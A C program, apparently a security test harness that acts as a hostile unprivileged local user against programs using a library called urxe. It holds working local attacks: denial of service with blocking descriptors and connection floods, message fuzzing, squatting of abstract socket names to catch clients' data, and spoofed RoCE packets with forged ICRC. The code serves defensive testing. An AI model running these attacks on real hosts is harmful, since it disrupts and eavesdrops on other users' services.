/*
 * Attacks of another unprivileged user of the host on programs that use urxe: `attacker KIND SECONDS ...`.
 * It does not use urxe: it finds abstract names in /proc/net/unix, and sends RoCE packets.
 *
 * Each kind prints one line with its counts at the end, and a line «leaked» for each reply that it got.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MUST(condition) \
	do { \
		if (!(condition)) { \
			printf("line %d: %s: %m\n", __LINE__, #condition); \
			exit(2); \
		} \
	} while (0)

enum { ROCE_PORT = 4791, MOST_NAMES = 4096, MOST_HELD = 1 << 16, LINGER_SECONDS = 60 };

static char names[MOST_NAMES][108];
static int name_count;
static unsigned long done, refused;
static double ends_at;

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static int goes_on(void)
{
	return now() < ends_at;
}

static void leaked(const char *by, ssize_t bytes)
{
	printf("leaked %zd bytes by %s\n", bytes, by);
	fflush(stdout);
}

/* Collects the abstract names that begin with urxe/, which every user can read. */
static void find_names(void)
{
	FILE *file = fopen("/proc/net/unix", "r");
	char line[512];

	MUST(file);
	name_count = 0;
	while (fgets(line, sizeof(line), file) && name_count < MOST_NAMES) {
		char *name = strstr(line, " @urxe/");

		if (!name)
			continue;
		name += 2;
		name[strcspn(name, "\n")] = 0;
		snprintf(names[name_count++], sizeof(names[0]), "%s", name);
	}
	fclose(file);
}

static socklen_t address_of(struct sockaddr_un *address, const char *name)
{
	size_t length = strnlen(name, sizeof(address->sun_path) - 1);

	memset(address, 0, sizeof(*address));
	address->sun_family = AF_UNIX;
	memcpy(address->sun_path + 1, name, length);
	return offsetof(struct sockaddr_un, sun_path) + 1 + length;
}

static int unix_socket(int kind)
{
	return socket(AF_UNIX, kind | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
}

/* Returns a socket of this type connected to a name, or -1. */
static int reach(const char *name, int kind)
{
	struct sockaddr_un address;
	socklen_t length = address_of(&address, name);
	int fd = unix_socket(kind);

	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&address, length)) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Returns the limit of descriptors, less a reserve. */
static unsigned long most_descriptors(void)
{
	struct rlimit limit;

	MUST(!getrlimit(RLIMIT_NOFILE, &limit));
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
	MUST(!getrlimit(RLIMIT_NOFILE, &limit));
	return limit.rlim_cur < MOST_HELD ? limit.rlim_cur - 64 : MOST_HELD - 64;
}

static const int kinds[] = {SOCK_SEQPACKET, SOCK_DGRAM, SOCK_STREAM};

/* Returns a TCP socket whose last close blocks: it has unsent data to `peer`, which never reads. */
static int blocking_descriptor(int *peer)
{
	struct sockaddr_in address = {
		.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct linger linger = {.l_onoff = 1, .l_linger = LINGER_SECONDS};
	socklen_t length = sizeof(address);
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), fd, small = 4096;
	static char bytes[1 << 16];

	setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));

	MUST(listener >= 0 && !bind(listener, (struct sockaddr *)&address, length));
	MUST(!listen(listener, 1) && !getsockname(listener, (struct sockaddr *)&address, &length));
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	MUST(fd >= 0 && !setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small)));
	MUST(!connect(fd, (struct sockaddr *)&address, length));
	*peer = accept(listener, NULL, NULL);
	MUST(*peer >= 0 && !close(listener));
	MUST(!setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger)));
	MUST(!fcntl(fd, F_SETFL, O_NONBLOCK));
	while (send(fd, bytes, sizeof(bytes), MSG_NOSIGNAL) > 0)
		;
	return fd;
}

static ssize_t send_descriptor(int to, int descriptor, void *bytes, size_t length)
{
	char room[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec part = {bytes, length};
	struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = room,
				 .msg_controllen = sizeof(room)};
	struct cmsghdr *control = CMSG_FIRSTHDR(&message);

	control->cmsg_level = SOL_SOCKET;
	control->cmsg_type = SCM_RIGHTS;
	control->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(control), &descriptor, sizeof(int));
	return sendmsg(to, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}

static void count(ssize_t sent)
{
	if (sent >= 0)
		done++;
	else
		refused++;
}

/*
 * Sends descriptors that block when they are closed to every name. The receiver's close must be the last
 * one: messages before it keep the receiver busy until this process has closed its own.
 */
static void descriptors(void)
{
	enum { PEERS = 500, BEFORE = 9 };
	static int peers[PEERS];
	unsigned long next = 0;

	memset(peers, -1, sizeof(peers));
	while (goes_on()) {
		int name, kind, i;

		find_names();
		for (name = 0; name < name_count; name++) {
			for (kind = 0; kind < 3; kind++) {
				struct linger none = {.l_onoff = 1, .l_linger = 0};
				char byte[] = "urxf";
				int to = reach(names[name], kinds[kind]), fd, peer;
				ssize_t sent;

				if (to < 0)
					continue;
				fd = blocking_descriptor(&peer);
				for (i = 0; i < BEFORE; i++)
					send(to, byte, sizeof(byte), MSG_NOSIGNAL);
				sent = send_descriptor(to, fd, byte, sizeof(byte));
				count(sent);
				if (sent < 0)
					setsockopt(fd, SOL_SOCKET, SO_LINGER, &none, sizeof(none));
				close(fd);
				close(to);
				next = (next + 1) % PEERS;
				if (peers[next] >= 0)
					close(peers[next]);
				peers[next] = peer;
			}
		}
		usleep(10000);
	}
}

/* Opens as many connections to every name as possible, keeps them open, and repeats. */
static void connections(void)
{
	static int held[MOST_HELD];
	unsigned long most = most_descriptors(), next = 0;

	memset(held, -1, sizeof(held));
	while (goes_on()) {
		int name, kind;

		find_names();
		for (name = 0; name < name_count; name++) {
			for (kind = 0; kind < 3; kind++) {
				int fd = reach(names[name], kinds[kind]);

				count(fd);
				if (fd < 0)
					continue;
				next = (next + 1) % most;
				if (held[next] >= 0)
					close(held[next]);
				held[next] = fd;
			}
		}
	}
}

/* Sends messages of random bytes and sizes to every name, and requests for counters. */
static void messages(void)
{
	static uint8_t bytes[1 << 17];
	static const size_t sizes[] = {0, 1, 4, 20, 58, 4112, 65536, 130000};
	static const char question[] = "urxq";
	size_t at;

	for (at = 0; at < sizeof(bytes); at++)
		bytes[at] = rand();
	while (goes_on()) {
		int name, kind, i;

		find_names();
		for (name = 0; name < name_count; name++) {
			for (kind = 0; kind < 3; kind++) {
				int to = reach(names[name], kinds[kind]);
				char answer[256];
				ssize_t length;
				struct pollfd wait = {.fd = to, .events = POLLIN};

				if (to < 0)
					continue;
				count(send(to, question, 4, MSG_NOSIGNAL));
				/* A closed connection is readable. */
				poll(&wait, 1, 50);
				length = recv(to, answer, sizeof(answer), 0);
				if (length > 0)
					leaked(names[name], length);
				for (i = 0; i < 50; i++) {
					memcpy(bytes, i % 2 ? "urxf\1\4" : "urxq", 6);
					count(send(to, bytes, sizes[i % 8], MSG_NOSIGNAL));
				}
				close(to);
			}
		}
	}
}

/* Takes names before other processes do, and those that become free. */
static void take_names(int count_of_slots, int first)
{
	static const char *const slots[] = {"urxe/slot/%d", "urxe/link/%d", "urxe/alive/%d",
					    "urxe/stat-listener/%d"};
	static int held[MOST_HELD];
	int most = most_descriptors(), held_count = 0, number, form, kind, i;
	char name[108], answer[256];

	printf("taking\n");
	fflush(stdout);
	while (goes_on()) {
		/* The names of other processes' listeners, at all slots and addresses. */
		find_names();
		for (i = 0; i < name_count + count_of_slots; i++) {
			for (form = 0; form < 4; form++) {
				if (i < name_count) {
					if (strncmp(names[i], "urxe/cm/", 8))
						continue;
					number = rand() % 255;
					snprintf(name, sizeof(name), form % 2 ? "%.90s/%d" : "%.90s",
						 names[i], number);
				} else {
					number = first + i - name_count;
					snprintf(name, sizeof(name), slots[form], number);
				}
				for (kind = 0; kind < 2; kind++) {
					struct sockaddr_un address;
					socklen_t length = address_of(&address, name);
					int fd = unix_socket(kinds[kind]);

					if (fd < 0)
						break;
					if (held_count == most ||
					    bind(fd, (struct sockaddr *)&address, length)) {
						refused++;
						close(fd);
						continue;
					}
					listen(fd, 100);
					held[held_count++] = fd;
					done++;
				}
			}
		}
		/* A process that takes this one for urxe sends a message. */
		for (i = 0; i < held_count; i++) {
			int other = accept(held[i], NULL, NULL);
			int from = other >= 0 ? other : held[i];
			ssize_t length = recv(from, answer, sizeof(answer), MSG_DONTWAIT);

			if (length > 0)
				leaked("a client of a squatted name", length);
			if (other >= 0)
				close(other);
		}
		usleep(1000);
	}
}

/* The ICRC of a packet that this host sends with «don't fragment» and the identification 0. */
static uint32_t icrc(const struct sockaddr_in *from, const struct sockaddr_in *to,
		     const uint8_t *packet, size_t length)
{
	uint8_t head[36];
	uint16_t total = htons(20 + 8 + length + 4), udp = htons(8 + length + 4);
	uint32_t crc = ~0u;
	size_t at;
	int bit;

	memset(head, 0xff, 8);
	memset(head + 8, 0, 28);
	head[8] = 0x45;
	head[9] = 0xff;
	memcpy(head + 10, &total, 2);
	head[14] = 0x40;
	head[16] = 0xff;
	head[17] = IPPROTO_UDP;
	head[18] = head[19] = 0xff;
	memcpy(head + 20, &from->sin_addr, 4);
	memcpy(head + 24, &to->sin_addr, 4);
	memcpy(head + 28, &from->sin_port, 2);
	memcpy(head + 30, &to->sin_port, 2);
	memcpy(head + 32, &udp, 2);
	head[34] = head[35] = 0xff;
	for (at = 0; at < sizeof(head) + length; at++) {
		uint8_t byte = at < sizeof(head) ? head[at] : packet[at - sizeof(head)];

		if (at == sizeof(head) + 4)
			byte = 0xff;
		crc ^= byte;
		for (bit = 0; bit < 8; bit++)
			crc = crc >> 1 ^ (crc & 1 ? 0xedb88320 : 0);
	}
	return ~crc;
}

static int roce_socket(struct sockaddr_in *from, struct sockaddr_in *to, const char *address)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), always = IP_PMTUDISC_DO;
	socklen_t length = sizeof(*from);

	*to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(ROCE_PORT)};
	MUST(inet_pton(AF_INET, address, &to->sin_addr) == 1);
	*from = *to;
	from->sin_port = 0;
	MUST(fd >= 0 && !bind(fd, (struct sockaddr *)from, length));
	MUST(!getsockname(fd, (struct sockaddr *)from, &length));
	MUST(!setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &always, sizeof(always)));
	return fd;
}

/* Seals and sends a packet with room for the ICRC behind it. */
static void send_packet(int fd, const struct sockaddr_in *from, const struct sockaddr_in *to,
			uint8_t *packet, size_t length)
{
	uint32_t sum = htole32(icrc(from, to, packet, length));

	memcpy(packet + length, &sum, 4);
	count(sendto(fd, packet, length + 4, 0, (const struct sockaddr *)to, sizeof(*to)));
}

static void bth(uint8_t *packet, uint8_t opcode, uint32_t qpn, uint32_t psn)
{
	const uint8_t header[12] = {opcode,   0x40, 0xff, 0xff,	     0,	       qpn >> 16,
				    qpn >> 8, qpn,  0x80, psn >> 16, psn >> 8, psn};

	memcpy(packet, header, sizeof(header));
}

/*
 * Sends packets from the peer's address with guessed queue pair numbers and PSNs; probes; messages to
 * queue pair 1.
 */
static void packets(const char *address)
{
	static const uint8_t opcodes[] = {0,  1,  2,  4,  5,  6,  7,  8,  10,   11,
					  12, 13, 16, 17, 18, 19, 20, 22, 0x64, 0x81};
	struct sockaddr_in from, to;
	int fd = roce_socket(&from, &to, address);
	uint8_t packet[1100];
	char answer[2048];
	size_t at;

	while (goes_on()) {
		uint32_t qpn = rand() % 8 << 16 | (rand() & 0xffff);
		size_t length = 12 + rand() % 256 * 4;

		for (at = 0; at < length; at++)
			packet[at] = rand();
		switch (rand() % 4) {
		case 0: /* A MAD to queue pair 1 with random contents. */
			length = 12 + 8 + 256;
			bth(packet, 0x64, 1, rand() & 0xffffff);
			memcpy(packet + 12, "\x80\x01\0\0\0\0\0\1", 8);
			memcpy(packet + 20, "\1\7\2\3", 4);
			packet[36] = 0;
			packet[37] = 0x10 + rand() % 12;
			break;
		case 1: /* A probe, or a packet for an empty slot. */
			length = 28;
			bth(packet, rand() % 2 ? 0xff : 4, 0xff0000 | rand() % 16, 0);
			memcpy(packet + 8, "urxp", 4);
			break;
		case 2: /* Too short, or not RoCE. */
			length = rand() % 16;
			break;
		default:
			bth(packet, opcodes[rand() % sizeof(opcodes)], qpn, rand() & 0xffffff);
		}
		send_packet(fd, &from, &to, packet, length);
		/* Answers to probes have 24 bytes, and nothing else is answered to this port. */
		if (recv(fd, answer, sizeof(answer), MSG_DONTWAIT) > 28)
			leaked("port 4791", 0);
	}
}

/* Sends requests ahead of the expected PSN to a queue pair whose number and PSN are known. */
static void ahead(const char *address, uint32_t qpn, uint32_t psn)
{
	struct sockaddr_in from, to;
	int fd = roce_socket(&from, &to, address), distance;
	uint8_t packet[1100];

	memset(packet, 0xee, sizeof(packet));
	for (distance = 1; distance <= 1000; distance++) {
		/* SEND ONLY: a complete message. */
		bth(packet, 4, qpn, (psn + distance) & 0xffffff);
		send_packet(fd, &from, &to, packet, 12 + 64);
		usleep(100);
	}
}

/* Tries to bind port 4791 of another user. */
static void port(const char *address)
{
	static const char *const wildcards[] = {NULL, "0.0.0.0"};
	int option, wildcard, on = 1;

	for (wildcard = 0; wildcard < 2; wildcard++) {
		for (option = 0; option < 4; option++) {
			struct sockaddr_in at = {.sin_family = AF_INET,
						 .sin_port = htons(ROCE_PORT)};
			int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

			inet_pton(AF_INET, wildcard ? wildcards[wildcard] : address, &at.sin_addr);
			if (option & 1)
				MUST(!setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof(on)));
			if (option & 2)
				MUST(!setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)));
			count(bind(fd, (struct sockaddr *)&at, sizeof(at)));
		}
	}
}

int main(int words_count, char **words)
{
	const char *kind = words_count > 2 ? words[1] : "";

	MUST(words_count > 2);
	srand(4711);
	ends_at = now() + atoi(words[2]);
	if (!strcmp(kind, "descriptors"))
		descriptors();
	else if (!strcmp(kind, "connections"))
		connections();
	else if (!strcmp(kind, "messages"))
		messages();
	else if (!strcmp(kind, "names"))
		take_names(atoi(words[3]), atoi(words[4]));
	else if (!strcmp(kind, "packets"))
		packets(words[3]);
	else if (!strcmp(kind, "ahead"))
		ahead(words[3], atoi(words[4]), atoi(words[5]));
	else if (!strcmp(kind, "port"))
		port(words[3]);
	else
		return 2;
	printf("done %lu, refused %lu\n", done, refused);
	return 0;
}
